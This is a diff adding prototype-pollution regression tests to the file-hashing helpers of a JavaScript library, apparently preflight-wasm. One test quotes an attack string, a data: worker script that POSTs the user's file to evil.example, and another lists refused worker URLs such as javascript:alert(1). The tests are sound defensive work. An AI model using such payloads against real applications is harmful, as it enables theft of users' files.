@@ -11,6 +11,7 @@ import path from 'node:path';
 import { fileURLToPath } from 'node:url';
 import * as api from '../../pkg/node.js';
 import * as hashOnly from '../../pkg/hash.js';
+import * as helpers from '../../pkg/helpers.js';
 import { HASH_KEYS } from '../../pkg/lib/audience.js';
 import { BODY_KEYS } from '../../pkg/lib/bodies.js';
 import { CRC_OPTION_KEYS, VERIFY_OPTION_KEYS, OAUTH1_FIELDS } from '../../pkg/lib/signing.js';
@@ -285,4 +286,193 @@ test('validate: every other option (now, max_issues) on Object.prototype changes
   assert.ok(c, 'a vector that pins now and is invalid');
   const probe = (o) => [outcome(() => api.validate(c.kind, c.payload, o)), outcome(() => api.validate(c.kind, JSON.stringify(c.payload), o))];
   for (const [name, value] of VALIDATE_VALUES) check(name, value, probe);
+});
+
+// The helpers (preflight-wasm/helpers): hashFile's and hashFileInWorker's options and control,
+// createHashStream's and extractColumn's options, the file itself, and the elements of
+// hashIdentifiers' values.
+const FILE_OPTION_KEYS = ['type', 'column', 'header', 'delimiter', 'onError'];
+const STREAM_OPTION_KEYS = ['output', 'onError'];
+const CONTROL_KEYS = ['onProgress', 'signal'];
+
+test('the helpers\' option and control lists here are the members of the .d.ts types', () => {
+  const sorted = (a) => [...a].sort();
+  const helpersDts = read('pkg/types/helpers.d.ts');
+  const own = (name) => {
+    const m = new RegExp(`export interface ${name}(?: extends [\\w, ]+)? \\{([\\s\\S]*?)\\n\\}`).exec(helpersDts);
+    assert.ok(m, name);
+    return [...m[1].matchAll(/^ {2}(\w+)\??:/gm)].map((x) => x[1]);
+  };
+  assert.deepEqual(sorted([...own('HashFileOptions'), ...own('CsvOptions')]), sorted(FILE_OPTION_KEYS));
+  assert.deepEqual(sorted(own('HashStreamOptions')), sorted(STREAM_OPTION_KEYS));
+  assert.deepEqual(sorted(own('CsvOptions')), ['delimiter', 'header']);
+  assert.deepEqual(sorted(own('HashFileControl')), sorted(CONTROL_KEYS));
+  assert.match(helpersDts, /control\?: HashFileControl & \{ workerUrl\?: string \| URL \| undefined \}/);
+});
+
+/** `check` for an async probe. */
+async function checkAsync(name, value, probe, bases = [undefined, {}]) {
+  const run = async (mk) => {
+    const out = [];
+    for (const b of bases) out.push(await probe(mk(b)));
+    return out;
+  };
+  const clean = await run((b) => (b === undefined ? undefined : { ...b }));
+  const withOwn = await run((b) => ({ ...b, [name]: value }));
+  assert.notDeepEqual(withOwn, clean, `${name}: the value changes nothing even as an own member`);
+  assert.ok(!Object.prototype.hasOwnProperty.call(Object.prototype, name));
+  Object.prototype[name] = value;
+  let after;
+  try {
+    after = await run((b) => (b === undefined ? undefined : { ...b }));
+  } finally {
+    delete Object.prototype[name];
+  }
+  assert.deepEqual(after, clean, `${name} on Object.prototype changed the outcome`);
+}
+
+const outcomeAsync = async (fn) => {
+  try {
+    return JSON.stringify({ ok: await fn() });
+  } catch (e) {
+    return JSON.stringify({ error: e?.name, code: e?.code });
+  }
+};
+
+const CSV_TEXT = 'email;n\nA@x.com;1\nnot an email;2\n';
+const LINES_TEXT = 'A@x.com\nnot an email\n';
+const fileResult = async (r) => ({ text: await r.blob.text(), rejected: r.rejected });
+
+for (const [entry, mod] of [['preflight-wasm/helpers', helpers], ['preflight-wasm', api]]) {
+  test(`${entry}: hashFile: every option and control member on Object.prototype changes nothing`, async () => {
+    const probe = async (o) => [
+      await outcomeAsync(async () => fileResult(await mod.hashFile(new Blob([CSV_TEXT]), o))),
+      await outcomeAsync(async () => fileResult(await mod.hashFile(new Blob([LINES_TEXT]), o))),
+    ];
+    const values = [['column', 'email'], ['header', false], ['delimiter', ';'], ['onError', 'drop']];
+    await checkAsync('type', 'email', probe, [{}, { column: 'email', delimiter: ';' }]);
+    for (const [name, value] of values) {
+      const bases = name === 'header' || name === 'delimiter'
+        ? [{ type: 'email', column: 'email', ...(name === 'header' ? { delimiter: ';' } : {}) }]
+        : [{ type: 'email' }, { type: 'email', ...(name === 'column' ? { delimiter: ';' } : { column: 'email', delimiter: ';' }) }];
+      await checkAsync(name, value, probe, bases);
+    }
+    // Control: a function on Object.prototype is not called back; an aborted signal there aborts
+    // nothing.
+    let calls = 0;
+    const onProgress = () => calls++;
+    const controlProbe = async (c) => {
+      calls = 0;
+      const o = await outcomeAsync(async () => fileResult(await mod.hashFile(new Blob([LINES_TEXT]), { type: 'email' }, c)));
+      return [o, calls];
+    };
+    await checkAsync('onProgress', onProgress, controlProbe);
+    await checkAsync('signal', AbortSignal.abort(new Error('polluted')), controlProbe);
+    // The file: an object that only inherits a `stream` is no Blob.
+    const evil = () => new Blob(['evil@x.com\n']).stream();
+    assert.equal(
+      await polluted('stream', evil, () => outcomeAsync(async () => fileResult(await mod.hashFile({ size: 11 }, { type: 'email' })))),
+      JSON.stringify({ error: 'PreflightError', code: 'invalid_argument' }),
+    );
+  });
+
+  test(`${entry}: createHashStream, extractColumn: every option on Object.prototype changes nothing`, async () => {
+    const through = async (o) => {
+      const out = [];
+      const source = new ReadableStream({ start: (c) => { c.enqueue(LINES_TEXT); c.close(); } });
+      for await (const x of source.pipeThrough(mod.createHashStream('email', o))) out.push(x);
+      return out;
+    };
+    const probe = (o) => outcomeAsync(() => through(o));
+    await checkAsync('output', 'text', probe);
+    await checkAsync('onError', 'drop', probe, [{ output: 'text' }]);
+    const csvProbe = (o) => [outcome(() => mod.extractColumn(CSV_TEXT, 'email', o)), outcome(() => mod.extractColumn('email,n\na@x.com,1\n', '1', o))];
+    check('header', false, csvProbe);
+    check('delimiter', ';', csvProbe);
+  });
+
+  test(`${entry}: hashIdentifiers: an element on a prototype is no element (a hole is not_a_string)`, () => {
+    const values = [, 'a@x.com', , ];
+    const clean = outcome(() => mod.hashIdentifiers('email', values));
+    assert.match(clean, /not_a_string/);
+    assert.equal(polluted('0', 'evil@x.com', () => outcome(() => mod.hashIdentifiers('email', values))), clean);
+    Array.prototype[2] = 'evil@x.com';
+    try {
+      assert.equal(outcome(() => mod.hashIdentifiers('email', values)), clean);
+    } finally {
+      delete Array.prototype[2];
+    }
+    assert.equal(outcome(() => mod.hashIdentifiers('email', values)), clean);
+  });
+}
+
+/**
+ * Runs `fn` with a stand-in module Worker (it records the address it is started from, answers
+ * with one progress message and then the result 'ok') and a page address.
+ */
+async function withWorker(fn) {
+  const started = [];
+  globalThis.Worker = class {
+    constructor(url, options) {
+      started.push(`${url} ${options?.type}`);
+      queueMicrotask(() => {
+        this.onmessage?.({ data: { type: 'progress', progress: { bytes: 1 } } });
+        this.onmessage?.({ data: { type: 'done', result: 'ok' } });
+      });
+    }
+    postMessage() {}
+    terminate() {}
+  };
+  globalThis.location = new URL('https://app.example/page.html');
+  try {
+    return await fn(started);
+  } finally {
+    delete globalThis.Worker;
+    delete globalThis.location;
+  }
+}
+
+test('hashFileInWorker: no control member on Object.prototype is read (a data: workerUrl there starts nothing)', async () => {
+  await withWorker(async (started) => {
+    const file = new Blob(['a@x.com\n']);
+    // The issue's attack: the worker would have been started from that address and posted the
+    // file. With a control object (the usual call passes one) and without.
+    const attack = 'data:text/javascript,self.onmessage=(e)=>fetch("https://evil.example",{method:"POST",body:e.data.file})';
+    const own = `${new URL('../../pkg/lib/hash-worker.js', import.meta.url)} module`;
+    for (const control of [{ onProgress: () => {} }, {}, undefined]) {
+      assert.equal(await polluted('workerUrl', attack, () => helpers.hashFileInWorker(file, { type: 'email' }, control)), 'ok');
+    }
+    assert.deepEqual(started, [own, own, own]);
+    let calls = 0;
+    for (const control of [{}, { signal: new AbortController().signal }, undefined]) {
+      assert.equal(await polluted('onProgress', () => calls++, () => helpers.hashFileInWorker(file, { type: 'email' }, control)), 'ok');
+      assert.equal(await polluted('signal', AbortSignal.abort(), () => helpers.hashFileInWorker(file, { type: 'email' }, control)), 'ok');
+    }
+    assert.equal(calls, 0);
+    // As own members they do act.
+    assert.equal(await helpers.hashFileInWorker(file, { type: 'email' }, { onProgress: () => calls++ }), 'ok');
+    assert.equal(calls, 1);
+    await assert.rejects(helpers.hashFileInWorker(file, { type: 'email' }, { signal: AbortSignal.abort(new Error('own')) }), /own/);
+  });
+});
+
+test('hashFileInWorker: a workerUrl string must be a same-origin http(s) address; a URL object is the caller\'s own', async () => {
+  await withWorker(async (started) => {
+    const file = new Blob(['a@x.com\n']);
+    const run = (workerUrl) => helpers.hashFileInWorker(file, { type: 'email' }, { workerUrl }).then((r) => r, (e) => e.code);
+    for (const refused of ['data:text/javascript,postMessage(1)', 'blob:https://app.example/0b7c2e4a-1f0e-4c1c-9f3e-6d1f2d3c4b5a',
+      'https://evil.example/hash-worker.js', '//evil.example/hash-worker.js', 'javascript:alert(1)', 'http://app.example/w.js', 42]) {
+      assert.equal(await run(refused), 'bad_options', String(refused));
+    }
+    assert.deepEqual(started, []);
+    assert.equal(await run('/assets/hash-worker.js'), 'ok');
+    assert.equal(await run('https://app.example/x/hash-worker.js'), 'ok');
+    // A URL the caller built is taken as given, whatever its scheme.
+    assert.equal(await run(new URL('blob:https://app.example/0b7c2e4a-1f0e-4c1c-9f3e-6d1f2d3c4b5a')), 'ok');
+    assert.deepEqual(started, [
+      'https://app.example/assets/hash-worker.js module',
+      'https://app.example/x/hash-worker.js module',
+      'blob:https://app.example/0b7c2e4a-1f0e-4c1c-9f3e-6d1f2d3c4b5a module',
+    ]);
+  });
 });
